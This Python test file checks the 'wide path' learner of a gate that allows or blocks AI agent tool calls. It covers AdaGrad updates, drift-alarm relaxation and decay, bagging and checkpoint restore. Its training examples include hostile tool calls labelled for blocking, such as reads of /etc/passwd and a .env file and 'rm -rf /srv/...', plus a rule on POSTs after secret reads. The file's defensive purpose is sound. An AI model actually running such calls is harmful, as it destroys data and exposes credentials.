"""The wide path's own optimiser (engine/wide.py) and how the trainer uses it: the gradient
is exact (float64, central differences), AdamW never touches the wide slice, every fresh
signal reaches the wide path even when the transformer skips it, its state survives a
restart, and a drift relaxes it."""

from __future__ import annotations

import dataclasses

import numpy as np
import pytest
from config_history import fingerprint_before
from gradcheck import numeric_grad_entries, rel_error, weighted_bce

from gated.config import TrainConfig
from gated.daemon.serving import Calibration
from gated.daemon.trainer import build_trainer
from gated.engine import AdamW, Model, ModelConfig, build_batch, source_batch
from gated.engine.wide import BIAS_BUCKET, NGRAM_END, PAIR_KEYS, wide_features
from gated.engine.wide_learner import WideAdaGrad, WideBag
from gated.store import Store


def test_wide_gradient_matches_central_differences_with_repeated_buckets():
    rng = np.random.default_rng(3)
    weights, accum = rng.normal(size=64), np.zeros(64)
    learner = WideAdaGrad(weights, accum, scale=1.7, l2=1e-3)
    idx = np.array([0, 5, 9, 5, 33, 9, 63])  # 5 and 9 twice (call and history)
    val = rng.normal(size=idx.size)
    z_rest, label, weight = 0.4, 0.0, 4.0

    def loss() -> float:
        z = z_rest + 1.7 * sum(weights[i] * v for i, v in zip(idx, val, strict=True))
        touched = np.unique(idx)
        reg = float(weights[touched] @ weights[touched])
        return weighted_bce(z, label, weight) + 0.5 * 1e-3 * reg

    buckets, grad, z = learner.gradient(idx, val, z_rest, label, weight)
    assert list(buckets) == sorted(set(idx.tolist()))
    assert np.isclose(z, z_rest + 1.7 * float(weights[idx] @ val))
    numeric = numeric_grad_entries(loss, weights, [(int(b),) for b in buckets])
    assert rel_error(grad, numeric) < 1e-6


def test_adagrad_update_and_relax():
    weights, accum = np.zeros(8), np.zeros(8)
    learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
    learner.learn(np.array([1, 2]), np.array([0.6, 0.8]), 0.0, 1.0, 1.0)
    # dz = sigmoid(0) - 1 = -0.5; g = -0.5 * val; first AdaGrad step = lr * sign(g)
    np.testing.assert_allclose(accum[[1, 2]], [0.09, 0.16])
    np.testing.assert_allclose(weights[[1, 2]], [0.5, 0.5], rtol=1e-6)
    learner.relax(0.25)
    np.testing.assert_allclose(accum[[1, 2]], [0.0225, 0.04])


def test_the_bias_feature_comes_first_at_its_value_and_history_is_scaled():
    idx, val = wide_features([ord(c) for c in "abcXY"], [0, 0, 0, 1, 1], 2, 1 << 12, 0.25, 0.5)
    assert idx[0] == BIAS_BUCKET and val[0] == 0.5
    call, hist = val[1:6], val[6:]  # "abc": 3 uni + 2 bi-grams; "XY": 2 + 1
    assert np.isclose(np.sqrt(call @ call), 1.0) and np.isclose(np.sqrt(hist @ hist), 0.25)


def test_wide_bias_zero_drops_the_bias_feature_and_keeps_the_rest():
    """ModelConfig.wide_bias 0: no source has bucket 0 from the bias (the n-grams are hashed
    as before, so the features are the bias's row dropped); the default keeps it, and its
    config fingerprint is the one from before the field existed."""
    ids, segs = [ord(c) for c in "abcXY"], [0, 0, 0, 1, 1]
    with_bias = wide_features(ids, segs, 2, 1 << 12, 0.25, 1.0)
    idx, val = wide_features(ids, segs, 2, 1 << 12, 0.25, 0.0)
    np.testing.assert_array_equal(idx, with_bias[0][1:])
    np.testing.assert_array_equal(val, with_bias[1][1:])
    flint = ModelConfig.preset("flint")
    assert flint.wide_bias == 1.0
    assert source_batch([("fs.read {}", None)], flint)["wide_idx"][0][0] == BIAS_BUCKET
    none = dataclasses.replace(flint, wide_bias=0.0)
    batch = source_batch([("fs.read {}", None)], none)
    assert BIAS_BUCKET not in batch["wide_idx"][0][batch["wide_val"][0] != 0]
    # wide_familiarity 0 and no first-seen mark: as before them
    assert flint.fingerprint() == fingerprint_before(flint, "wide_bias", "wide_familiarity",
                                                     "wide_novel_destinations")
    assert none.fingerprint() != flint.fingerprint()
    with pytest.raises(ValueError, match="wide_bias"):
        ModelConfig(wide_bias=-1.0)


def test_adamw_steps_the_transformer_and_leaves_the_wide_path_alone():
    cfg = ModelConfig.tiny()
    model = Model.init(cfg, seed=0)
    model.params["wide.w"][...] = 0.25
    opt = AdamW.for_model(model, lr=1e-2)
    wide = cfg.wide_buckets + (2 * cfg.wide_pair_buckets + cfg.pair_destination_rows
                               ) * cfg.wide_pair_rank  # w, U (its destination rows too), V
    assert opt.n_train == model.num_params - wide
    opt.v[opt.n_train:] = 7.0  # the wide path's AdaGrad sums live here
    before = model.flat.copy()
    batch = build_batch([{"context": "fs.read /etc/passwd",
                          "history": ['fs.read {"path": "/w/.env"}'],
                          "label": 0.0, "weight": 1.0, "reason": "secret"}], cfg)
    model.loss_and_grads(batch)
    assert np.any(model.grads["wide.w"] != 0)  # the joint gradient reaches the wide path...
    assert np.any(model.grads["wide.pair_hist"] != 0)  # (its pair term too)
    opt.step(model.flat, model.grad_flat)
    n = opt.n_train
    assert np.all(model.flat[n:] == before[n:])  # ...but AdamW does not apply it
    assert np.all(opt.v[n:] == 7.0) and np.all(opt.m[n:] == 0.0)
    assert np.any(model.flat[:n] != before[:n])


def _trainer(path, **kw):
    store = Store(path)
    settings = dataclasses.replace(TrainConfig(), **kw)
    return store, *build_trainer(store, ModelConfig.tiny(), settings, seed=0)


def test_the_wide_path_learns_every_fresh_signal_even_when_no_step_is_taken(tmp_path):
    store, trainer, serving = _trainer(tmp_path / "s", selective_confidence=0.9,
                                       selective_keep=0.0, swap_every_seconds=1e-6)
    serving.calibration = Calibration(1.0, 30.0)  # serving sure of "allow": nothing is hard
    store.append_signals([{"context": f"fs.read src/{i}.py", "decision": "allow"}
                          for i in range(5)])
    assert trainer.train_on(store.read_signals(0, 64)) is None  # the transformer skipped all
    wide = trainer.model.params["wide.w"][0]
    batch = source_batch([("fs.read src/0.py", None)], trainer.model.cfg)
    z = wide[batch["wide_idx"][0]] @ batch["wide_val"][0]
    assert z > 0  # pushed towards "allow" by five signals
    assert np.count_nonzero(trainer.opt.v[trainer.model.deep_size:]) > 20
    # and serving has the new wide weights (a swap without a transformer step)
    assert serving.current.version == 1
    np.testing.assert_array_equal(serving.current.model.params["wide.w"], wide[None])
    trainer.checkpoint()
    weights, accum = wide.copy(), trainer.opt.v[trainer.model.deep_size:].copy()
    store.close()
    store2, t2, _ = _trainer(tmp_path / "s")
    np.testing.assert_array_equal(t2.model.params["wide.w"][0], weights)
    np.testing.assert_array_equal(t2.opt.v[t2.model.deep_size:], accum)
    store2.close()


def test_a_bag_is_trained_published_and_restored_whole(tmp_path):
    """A trainer whose wide path is a bag (`wide_members` 3): every member learns (member 0
    every signal, the others their draws), serving gets all of them with the next swap and
    scores with their mean, and a restart restores every member and its AdaGrad sums."""
    cfg = dataclasses.replace(ModelConfig.tiny(), wide_members=3)
    settings = dataclasses.replace(TrainConfig(), swap_every_seconds=1e-6)
    store = Store(tmp_path / "s")
    trainer, serving = build_trainer(store, cfg, settings, seed=0)
    store.append_signals([{"context": f"fs.read src/{i}.py", "decision": "allow"}
                          if i % 4 else {"context": f"shell.exec rm -rf /srv/{i}",
                                         "decision": "block"} for i in range(24)])
    trainer.train_on(store.read_signals(0, 64))
    wide = trainer.model.params["wide.w"]
    assert wide.shape[0] == 3 and all(np.any(row != 0) for row in wide)
    assert not np.array_equal(wide[0], wide[1]) and not np.array_equal(wide[1], wide[2])
    np.testing.assert_array_equal(serving.current.model.params["wide.w"], wide)
    items = [("fs.read src/99.py", None), ("shell.exec rm -rf /srv/x", ["fs.read a.py"])]
    batch = source_batch(items, cfg)
    learner = trainer.wide_path.learner
    assert isinstance(learner, WideBag)
    for k, z in enumerate(serving.current.model.wide_logit(batch)):
        pair = tuple(batch[key][k] for key in PAIR_KEYS)
        assert z == pytest.approx(learner.logit(batch["wide_idx"][k], batch["wide_val"][k],
                                                0.0, pair, batch[NGRAM_END][k]), abs=1e-6)
    trainer.checkpoint()
    weights = {n: trainer.model.params[n].copy() for n in ("wide.w", "wide.pair_call",
                                                            "wide.pair_hist")}
    accum = trainer.opt.v[trainer.model.deep_size:].copy()
    store.close()
    store2 = Store(tmp_path / "s")
    t2, _ = build_trainer(store2, cfg, settings, seed=0)
    for name, value in weights.items():
        np.testing.assert_array_equal(t2.model.params[name], value)
    np.testing.assert_array_equal(t2.opt.v[t2.model.deep_size:], accum)
    store2.close()


def test_a_drift_alarm_has_every_member_of_a_bag_learn(tmp_path):
    """On a drift alarm the trainer gives its bag `train.drift_wide_bag_all` examples that
    every member learns (default 500), kept when the alarm is confirmed and ended when it
    is withdrawn (the gate's own mistakes: no new policy to learn fast); the setting is
    hot: a reload changes what the next alarm gives, and 0 leaves the draws as always."""
    cfg = dataclasses.replace(ModelConfig.tiny(), wide_members=3)
    store = Store(tmp_path / "s")
    trainer, _ = build_trainer(store, cfg, TrainConfig(), seed=0)
    bag = trainer.wide_path.learner
    assert isinstance(bag, WideBag) and bag.all_learn_left == 0
    trainer._on_drift(1, 1)
    assert bag.all_learn_left == TrainConfig().drift_wide_bag_all == 500
    trainer.wide_path.on_drift_verdict(1, confirmed=True)
    assert bag.all_learn_left == 500
    trainer._on_drift(3, 3)
    trainer.wide_path.on_drift_verdict(3, confirmed=False)
    assert bag.all_learn_left == 0
    trainer.apply_settings(dataclasses.replace(trainer.settings, drift_wide_bag_all=0))
    trainer._on_drift(2, 2)
    assert bag.all_learn_left == 0
    store.close()


def test_the_wide_paths_hot_settings_reach_its_learner(tmp_path):
    """Every `wide_*` setting marked hot in config/train.py takes effect on a reload
    (`wide_pair_lr` was marked hot and never reached the learner)."""
    store, trainer, _ = _trainer(tmp_path / "s", wide_pair_first=True)
    w = trainer.wide_path.learner
    assert w.pair_first and w.pair_lr == TrainConfig().wide_pair_lr
    trainer.apply_settings(dataclasses.replace(trainer.settings, wide_lr=0.2, wide_l2=1e-4,
                                               wide_pair_lr=0.05, wide_pair_first=False))
    assert (w.lr, w.l2, w.pair_lr, w.pair_first) == (0.2, 1e-4, 0.05, False)
    store.close()


def test_a_drift_relaxes_the_wide_path(tmp_path):
    """The linear weights' AdaGrad sums by `drift_wide_relax`, the pair term's by
    `drift_wide_pair_relax`; together they are the whole tail of AdamW's `v`."""
    store, trainer, _ = _trainer(tmp_path / "s", drift_wide_relax=0.5,
                                 drift_wide_pair_relax=0.25)
    trainer.opt.v[trainer.model.deep_size:] = 2.0
    trainer._on_drift(1, 1)
    learner = trainer.wide_path.learner
    assert np.all(learner.g2 == 1.0)
    assert np.all(learner.pair[1] == 0.5) and np.all(learner.pair[3] == 0.5)
    assert np.all(np.isin(trainer.opt.v[trainer.model.deep_size:], (1.0, 0.5)))
    store.close()


def test_a_drift_alarm_shrinks_the_wide_paths_linear_weights_until_withdrawn(tmp_path):
    """`drift_wide_shrink`: at a drift alarm the linear weights (every member's rows, the
    bias among them) are multiplied by it and marked for publication; the pair term
    stays. A confirmed alarm keeps the shrink; a withdrawn one takes it back and keeps
    what was learned in between (w = before + learned, exactly)."""
    store = Store(tmp_path / "s")
    trainer, _ = build_trainer(store, dataclasses.replace(ModelConfig.tiny(), wide_members=3),
                               dataclasses.replace(TrainConfig(), drift_wide_shrink=0.25),
                               seed=0)
    w = trainer.model.params["wide.w"]
    pair_keys = [k for k in trainer.model.params if k.startswith("wide.pair")]
    # every member of a bag, and a pair term that must not move
    assert isinstance(trainer.wide_path.learner, WideBag) and pair_keys
    rng = np.random.default_rng(0)
    w[...] = rng.integers(-8, 8, size=w.shape).astype(w.dtype)  # exact in float32 below
    before = w.copy()
    pair = [trainer.model.params[k].copy() for k in pair_keys]
    trainer.wide_path.dirty = False
    assert trainer.next_swap_at > trainer.clock()  # just published: the cadence waits
    trainer._on_drift(1, 1)
    np.testing.assert_array_equal(w, 0.25 * before)
    assert trainer.wide_path.dirty
    assert trainer.next_swap_at <= trainer.clock()  # the shrink serves at the next chance
    learned = rng.integers(-4, 4, size=w.shape).astype(w.dtype)
    w += learned  # what the path learns while the alarm waits for its verdict
    trainer.wide_path.dirty = False
    trainer._on_drift_verdict(1, False)  # withdrawn: the gate's own mistakes
    np.testing.assert_array_equal(w, before + learned)
    assert trainer.wide_path.dirty
    for k, a in zip(pair_keys, pair, strict=True):
        np.testing.assert_array_equal(trainer.model.params[k], a)
    trainer._on_drift(2, 2)
    trainer._on_drift_verdict(2, True)  # confirmed: the shrink stays
    np.testing.assert_array_equal(w, 0.25 * (before + learned))
    trainer._on_drift_verdict(2, False)  # a verdict with nothing pending changes nothing
    np.testing.assert_array_equal(w, 0.25 * (before + learned))
    store.close()


def test_after_an_alarm_a_contradicting_label_relaxes_its_buckets_sums_once():
    """`relax_contradicted`: in the window a label on the other side of the logit by more
    than the margin multiplies the sums of that example's buckets by the factor, before
    its step (so the step is as large as a fresh bucket's), and each bucket only once; a
    label that agrees, or one inside the margin, relaxes nothing; the window counts every
    example learned and then ends."""
    weights, accum = np.zeros(8), np.zeros(8)
    learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
    weights[[1, 2, 3]] = [2.0, 2.0, -2.0]
    accum[:] = 100.0
    learner.relax_contradicted(0.0, 4, 1.0)
    idx, val = np.array([1, 2]), np.array([0.6, 0.8])  # z = 2.8: "allow" by 2.8
    learner.learn(idx, val, 0.0, 1.0, 1.0)  # agrees: the sums only grow by g^2
    assert np.all(accum[[1, 2]] > 100.0)
    before = weights.copy()
    learner.learn(idx, val, 0.0, 0.0, 1.0)  # contradicts by 2.8 > 1: sums from 0
    g = (1.0 / (1.0 + np.exp(-before[[1, 2]] @ val))) * val
    np.testing.assert_allclose(accum[[1, 2]], g * g)
    np.testing.assert_allclose(weights[[1, 2]], before[[1, 2]] - 0.5, rtol=1e-6)  # full lr
    assert learner.contra_done.keys() == {1, 2}
    kept = accum[[1, 2]].copy()
    learner.learn(idx, val, 0.0, 0.0, 1.0)  # contradicts again: relaxed once already
    assert np.all(accum[[1, 2]] > kept)
    weights[3], accum[3] = -0.5, 100.0  # z = -0.5: inside the margin
    learner.learn(np.array([3]), np.array([1.0]), 0.0, 1.0, 1.0)
    assert accum[3] > 100.0 and learner.contra_left == 0  # four examples: the window ends
    weights[4], accum[4] = -3.0, 100.0
    learner.learn(np.array([4]), np.array([1.0]), 0.0, 1.0, 1.0)  # past the window
    assert accum[4] > 100.0


def test_a_withdrawn_alarm_gives_back_the_sums_its_window_relaxed():
    """A withdrawn drift alarm (`adapt_to_drift_verdict`, not confirmed) gives back what
    the contradiction window's relax took from each sum, keeping every g^2 added since
    (sum = before + learned) and the weights' steps; a bucket the window never relaxed
    keeps its sum, and what is given back is given back once. A confirmed alarm keeps the
    sums relaxed: there the labels were the new policy."""
    from gated.daemon.trainer.wide_path import adapt_to_drift_verdict

    def relaxed_learner() -> tuple[WideAdaGrad, np.ndarray, np.ndarray]:
        weights, accum = np.zeros(8), np.full(8, 100.0)
        weights[[1, 2]] = [2.0, 2.0]
        learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
        learner.relax_contradicted(0.1, 10, 0.0)
        idx, val = np.array([1, 2]), np.array([0.6, 0.8])
        learner.learn(idx, val, 0.0, 0.0, 1.0)  # "block" against z = 2.8: relaxed x0.1
        assert np.all(accum[[1, 2]] < 11.0)
        learner.learn(idx, val, 0.0, 1.0, 1.0)  # then "allow" (the correction): agrees
        return learner, weights, accum

    learner, weights, accum = relaxed_learner()
    learned = accum[[1, 2]] - 10.0  # every g^2 added to the relaxed sums
    assert np.all(learned > 0.0)
    stepped = weights.copy()
    assert adapt_to_drift_verdict(learner, None, confirmed=False)
    np.testing.assert_allclose(accum[[1, 2]], 100.0 + learned, rtol=1e-12)
    np.testing.assert_array_equal(accum[[0, 3, 4]], 100.0)  # never relaxed: as it was
    np.testing.assert_array_equal(weights, stepped)  # the steps taken stay
    assert not learner.restore_window()  # given back once

    learner, weights, accum = relaxed_learner()
    kept = accum.copy()
    assert not adapt_to_drift_verdict(learner, None, confirmed=True)
    np.testing.assert_array_equal(accum, kept)  # confirmed: relaxed they stay


def test_in_the_window_a_contradicting_label_decays_the_unsupported_weights_it_pushes_against():
    """`relax_contradicted`'s `decay`: a contradicted example multiplies by it, before its
    step, the weights whose part of the logit pushes against its label by more than
    `CONTRA_DECAY_LEAST` -- unless an earlier example of the window pushed them toward its
    own label (supported); weights at or under the threshold, and those pushing with the
    label, only step. The looks a drift alarm takes at once count as no support; a
    withdrawn alarm gives back what was taken (what was learned since stays). With decay
    1 nothing decays, and outside the window neither."""
    from gated.daemon.trainer.wide_path import adapt_to_drift_verdict
    from gated.engine.wide_window import CONTRA_DECAY_LEAST

    def fresh(decay: float) -> tuple[WideAdaGrad, np.ndarray]:
        weights, accum = np.zeros(8), np.full(8, 1e6)  # huge sums: steps ~1e-4, visible
        weights[[1, 2, 3, 4]] = [2.0, 1.5, CONTRA_DECAY_LEAST, -1.0]
        learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
        learner.relax_contradicted(1.0, 3, 0.0, decay)
        return learner, weights

    learner, w = fresh(0.5)
    # an allowed call reading bucket 2 (+1.5 toward "allow"): supports it in the window
    learner.learn(np.array([2, 5]), np.array([1.0, 1.0]), 0.0, 1.0, 1.0)
    assert learner.contra_supported == {2}
    before = w.copy()
    # "block" on a call whose logit says allow by 2 + 1.5 + 0.3 - 1 = 2.8: contradicted
    learner.learn(np.array([1, 2, 3, 4]), np.ones(4), 0.0, 0.0, 1.0)
    assert abs(w[1] - 0.5 * before[1]) < 1e-3  # unsupported, pushing +2 against: halved
    assert abs(w[2] - before[2]) < 1e-3  # supported by the allowed call: kept
    assert abs(w[3] - before[3]) < 1e-3  # pushing only by the threshold: kept
    assert abs(w[4] - before[4]) < 1e-3  # pushing with the label: kept
    assert 4 in learner.contra_supported and 1 not in learner.contra_supported
    learner.learn(np.array([1]), np.ones(1), 0.0, 0.0, 1.0)  # contradicted again: again
    assert abs(w[1] - 0.25 * before[1]) < 2e-3 and learner.contra_left == 0
    kept = w[1]
    learner.learn(np.array([1]), np.ones(1), 0.0, 0.0, 1.0)  # past the window: steps only
    assert abs(w[1] - kept) < 1e-3

    learner, w = fresh(0.5)  # the looks a drift alarm takes at once count as no support
    with learner.alarm_evidence():
        learner.learn(np.array([2, 5]), np.array([1.0, 1.0]), 0.0, 1.0, 1.0)
    assert learner.contra_supported == set() and not learner.contra_evidence
    before = w.copy()
    learner.learn(np.array([2]), np.ones(1), 0.0, 0.0, 1.0)
    assert abs(w[2] - 0.5 * before[2]) < 1e-3

    learner, w = fresh(0.0)  # a withdrawn alarm gives back what the decay took
    before = w.copy()
    learner.learn(np.array([1, 2]), np.ones(2), 0.0, 0.0, 1.0)  # both zeroed, then a step
    stepped = w.copy()
    assert abs(stepped[1]) < 1e-3 and abs(stepped[2]) < 1e-3
    assert adapt_to_drift_verdict(learner, None, confirmed=False)
    np.testing.assert_allclose(w[[1, 2]], before[[1, 2]] + stepped[[1, 2]], atol=1e-12)
    assert learner.contra_left == 0 and not learner.restore_window()

    learner, w = fresh(1.0)  # off
    before = w.copy()
    learner.learn(np.array([1, 2, 3, 4]), np.ones(4), 0.0, 0.0, 1.0)
    np.testing.assert_allclose(w, before, atol=1e-3)


def test_the_decay_waits_for_as_many_contradicting_labels_as_its_votes():
    """`relax_contradicted`'s `votes`: an unsupported weight decays only at the `votes`-th
    contradicted example of the window that pushes against it. One wrong "block" (the
    gate's own mistake) steps but takes nothing; a second label against the same weight
    (a policy change contradicts with many calls) decays it; a weight an example of the
    window supported between them keeps its value, however many labels follow. A label
    of the alarm's own evidence (`alarm_evidence`: the looks it takes at once) counts as
    every vote."""

    def fresh(votes: int) -> tuple[WideAdaGrad, np.ndarray]:
        weights, accum = np.zeros(8), np.full(8, 1e6)  # huge sums: steps ~1e-4, visible
        weights[[1, 2]] = [2.0, 1.5]
        learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
        learner.relax_contradicted(1.0, 10, 0.0, 0.0, votes)
        return learner, weights

    learner, w = fresh(2)
    before = w.copy()
    learner.learn(np.array([1, 2]), np.ones(2), 0.0, 0.0, 1.0)  # one wrong "block"
    np.testing.assert_allclose(w[[1, 2]], before[[1, 2]], atol=1e-3)  # stepped only
    assert learner.contra_against == {1: 1, 2: 1} and not learner.contra_removed
    learner.learn(np.array([2, 5]), np.ones(2), 0.0, 1.0, 1.0)  # an allowed call: supports 2
    kept = w.copy()
    learner.learn(np.array([1, 2]), np.ones(2), 0.0, 0.0, 1.0)  # the second vote
    assert abs(w[1]) < 1e-3  # voted against twice and never supported: decayed
    assert abs(w[2] - kept[2]) < 1e-3  # supported in between: kept
    assert learner.contra_removed.keys() == {1}

    learner, w = fresh(1)  # one vote: the first wrong "block" takes both
    learner.learn(np.array([1, 2]), np.ones(2), 0.0, 0.0, 1.0)
    assert abs(w[1]) < 1e-3 and abs(w[2]) < 1e-3

    learner, w = fresh(2)  # the alarm's own evidence (its looks) counts as every vote
    with learner.alarm_evidence():
        learner.learn(np.array([1]), np.ones(1), 0.0, 0.0, 1.0)
    assert abs(w[1]) < 1e-3 and learner.contra_against == {1: 2}
    learner.learn(np.array([2]), np.ones(1), 0.0, 0.0, 1.0)  # after it: one vote again
    assert abs(w[2] - 1.5) < 1e-3 and learner.contra_against[2] == 1


def test_the_alarms_evidence_decays_only_the_weights_its_labels_are_mostly_against():
    """`alarm_evidence(evidence)`: the looks are read first, at the weights before any is
    learned; a weight more of their labels push toward than against is supported (no
    label of the window decays it), any other decays at a label of the evidence against
    it as before (a tie included). A bad spell of the gate -- one wrong "block" among
    allowed calls -- takes nothing from the calls' weights; a policy change's evidence --
    mostly "block" on a weight that says "allow" -- decays it at once. On a bag every
    member reads the evidence at its own weights."""

    def fresh() -> tuple[WideAdaGrad, np.ndarray]:
        weights, accum = np.zeros(8), np.full(8, 1e6)  # huge sums: steps ~1e-4, visible
        weights[[1, 2]] = [2.0, 1.5]
        learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
        learner.relax_contradicted(1.0, 20, 0.0, 0.0, 2)
        return learner, weights

    def look(buckets: list[int], label: float) -> tuple:
        return np.array(buckets), np.ones(len(buckets)), label, -1

    # the gate's bad spell: three allowed calls read bucket 1, one wrong "block" reads 1, 2
    spell = [look([1, 5], 1.0), look([1, 5], 1.0), look([1, 2], 0.0), look([1, 6], 1.0)]
    learner, w = fresh()
    with learner.alarm_evidence(spell):
        for idx, val, label, _ in spell:
            learner.learn(idx, val, 0.0, label, 1.0)
    assert 1 in learner.contra_supported and 2 not in learner.contra_supported
    assert abs(w[1] - 2.0) < 1e-2  # 3 for, 1 against: kept
    assert abs(w[2]) < 1e-3  # only against: decayed at once, as every vote
    learner.learn(np.array([1]), np.ones(1), 0.0, 0.0, 1.0)  # a later wrong "block"...
    learner.learn(np.array([1]), np.ones(1), 0.0, 0.0, 1.0)  # ...and another: supported
    assert abs(w[1] - 2.0) < 1e-2 and 1 not in learner.contra_removed

    # a policy change: one allowed call before it, two blocked after it
    change = [look([1, 5], 1.0), look([1, 6], 0.0), look([1, 7], 0.0)]
    learner, w = fresh()
    with learner.alarm_evidence(change):
        learner.learn(*change[0][:2], 0.0, 1.0, 1.0)
        learner.learn(*change[1][:2], 0.0, 0.0, 1.0)
        assert abs(w[1]) < 1e-3  # 1 for, 2 against: the first "block" takes it
    # a tie decays as well: the window's votes as before the majority
    learner, w = fresh()
    tie = [look([1, 5], 1.0), look([1, 6], 0.0)]
    with learner.alarm_evidence(tie):
        for idx, val, label, _ in tie:
            learner.learn(idx, val, 0.0, label, 1.0)
    assert abs(w[1]) < 1e-3

    # a bag: each member by its own weights (member 1 says "block" at bucket 1 already)
    members = [fresh()[0], fresh()[0]]
    members[1].w[1] = -2.0
    bag = WideBag(members)
    with bag.alarm_evidence(iter(spell)):  # a one-pass iterable: every member reads it
        pass
    assert 1 in members[0].contra_supported
    assert 1 not in members[1].contra_supported and 5 not in members[1].contra_supported


def test_a_drift_alarm_opens_every_members_contradiction_window_until_withdrawn(tmp_path):
    """The trainer's drift alarm opens `drift_wide_contra_*`'s window on every member of
    the bag, with the settings' factor, margin and votes; a withdrawn alarm closes it (the
    labels that raised it were the gate's own mistakes); `drift_wide_contra_relax` and
    `drift_wide_contra_decay` both 1 is off, either one alone opens it."""
    store = Store(tmp_path / "s")
    settings = dataclasses.replace(TrainConfig(), drift_wide_contra_relax=0.1,
                                   drift_wide_contra_examples=300,
                                   drift_wide_contra_margin=0.5, drift_wide_contra_decay=1.0)
    trainer, _ = build_trainer(store, dataclasses.replace(ModelConfig.tiny(), wide_members=3),
                               settings, seed=0)
    bag = trainer.wide_path.learner
    assert isinstance(bag, WideBag)
    assert all(m.contra_left == 0 for m in bag.learners)
    trainer._on_drift(1, 1)
    assert all((m.contra_left, m.contra_factor, m.contra_margin) == (300, 0.1, 0.5)
               for m in bag.learners)
    trainer._on_drift_verdict(1, False)
    assert all(m.contra_left == 0 for m in bag.learners)
    trainer._on_drift(2, 2)
    trainer._on_drift_verdict(2, True)  # confirmed: the window stays open
    assert all(m.contra_left == 300 for m in bag.learners)
    bag.relax_contradicted(1.0, 0, 0.0)
    trainer.apply_settings(dataclasses.replace(settings, drift_wide_contra_relax=1.0))
    trainer._on_drift(3, 3)
    assert all(m.contra_left == 0 for m in bag.learners)
    trainer.apply_settings(dataclasses.replace(settings, drift_wide_contra_relax=1.0,
                                               drift_wide_contra_decay=0.5,
                                               drift_wide_contra_decay_votes=3))
    trainer._on_drift(4, 4)  # the decay alone opens the window, the sums left as they are
    assert all((m.contra_left, m.contra_factor, m.contra_decay, m.contra_votes)
               == (300, 1.0, 0.5, 3) for m in bag.learners)
    store.close()


def test_without_wide_residual_the_wide_path_is_a_standalone_learner(tmp_path):
    """`wide_residual = false`: the wide path learns as a logistic regression of its own
    (the rest of the logit held at 0), whatever the transformer says: its weights equal
    a WideAdaGrad fed the same signals alone, exactly (one pass: `wide_replay = 0`). With
    `wide_residual = true` they do not: there it learns the residual of the serving
    transformer's logit."""
    from gated.engine import source_batch
    from gated.signals import training_example

    signals = [{"context": f"shell.exec rm -rf /srv/{i}" if i % 3 == 0
                else f"fs.read src/{i}.py", "decision": "block" if i % 3 == 0 else "allow"}
               for i in range(48)]
    cfg = ModelConfig.tiny()
    got = {}
    for residual in (False, True):
        # (blocks at their own weight: the reference below learns at the signals' weights)
        store, trainer, _ = _trainer(tmp_path / str(residual), wide_residual=residual,
                                     promotion_holdout_share=0.0, wide_replay=0,
                                     wide_early_block_weight=1.0)
        trainer.model.params["gate.b"][...] = 2.0  # a transformer that says "allow"
        assert trainer.publish_now()
        store.append_signals(signals)
        while trainer.status.last_trained_seq < len(signals):
            trainer.train_on(store.read_signals(trainer.status.last_trained_seq, 16))
        got[residual] = trainer.model.params["wide.w"][0].copy()
        stored = [sig for _, sig in store.read_signals(0, len(signals))]  # label, weight
        store.close()
    ref = WideAdaGrad(np.zeros_like(got[False]), np.zeros_like(got[False]),
                      scale=cfg.wide_scale, lr=TrainConfig().wide_lr, l2=TrainConfig().wide_l2)
    src = source_batch([(s["context"], None) for s in signals], cfg)
    for i, s in enumerate(stored):
        ex = training_example(s)
        ref.learn(src["wide_idx"][i], src["wide_val"][i], 0.0, ex["label"], ex["weight"])
    np.testing.assert_array_equal(got[False], ref.w)
    assert not np.array_equal(got[True], ref.w)


def test_history_crosses_let_the_wide_path_learn_which_read_makes_a_post_exfiltration():
    """Rule 12 (an outbound POST or external mail after a project-secret read) on the
    realistic stream: a wide-only AdaGrad learner over 2,500 signals, then the history
    probes (the same outbound call after a secret read, TRUE block, and after a benign
    config read, TRUE allow). The tiny preset's 32-byte source has no room for history,
    so without crosses the two members of a pair are the same features; with them the
    allow twin must score above the block member in nearly every pair."""
    from gated.signals import label_and_weight
    from gated.traffic import GatewayTraffic

    def pair_gaps(cross: float) -> np.ndarray:
        cfg = dataclasses.replace(ModelConfig.tiny(), wide_buckets=1 << 16,
                                  wide_history_cross=cross)
        learner = WideAdaGrad(np.zeros(cfg.wide_buckets), np.zeros(cfg.wide_buckets),
                              scale=1.0, l2=1e-3)
        stream = GatewayTraffic(seed=3)
        events = [stream.next() for _ in range(2500)]
        b = source_batch([(e.signal["context"], e.signal["history"]) for e in events], cfg)
        for k, e in enumerate(events):
            label, weight = label_and_weight(e.signal, 0)  # as the daemon derives them
            learner.learn(b["wide_idx"][k], b["wide_val"][k], 0.0, label, weight)
        probes = GatewayTraffic(seed=3).history_probes(200, 77)
        assert [e.true_allow for e in probes[:2]] == [False, True]
        b = source_batch([(e.signal["context"], e.signal["history"]) for e in probes], cfg)
        z = np.array([learner.gradient(b["wide_idx"][k], b["wide_val"][k], 0.0, 1.0, 1.0)[2]
                      for k in range(len(probes))])
        return z[1::2] - z[0::2]  # allow twin minus block member

    without, with_crosses = pair_gaps(0.0), pair_gaps(0.3)
    np.testing.assert_allclose(without, 0.0, atol=1e-9)
    assert np.mean(with_crosses > 0) >= 0.9 and with_crosses.mean() > 0.2


def test_the_wide_path_replays_reservoir_examples_with_their_current_labels(tmp_path):
    """`wide_replay`: after each fresh signal the wide path learns reservoir examples again
    (its weights differ from one pass over the same signals), and what it replays carries
    the label a person's correction gave the call, never the gate's superseded one."""
    signals = [{"context": f"fs.read src/{i}.py", "decision": "allow"} for i in range(30)]
    correction = {"context": "fs.read src/0.py", "decision": "allow",
                  "feedback": "false_negative"}
    got = {}
    for replay in (0, 2):
        store, trainer, _ = _trainer(tmp_path / str(replay), promotion_holdout_share=0.0,
                                     wide_replay=replay)
        store.append_signals(signals + [correction])
        while trainer.status.last_trained_seq < len(signals) + 1:
            trainer.train_on(store.read_signals(trainer.status.last_trained_seq, 8))
        got[replay] = trainer.model.params["wide.w"][0].copy()
        if replay:
            examples, sources = trainer._wide_replay(200)
            assert len(examples) == 30 == sources["wide_idx"].shape[0]  # one per call
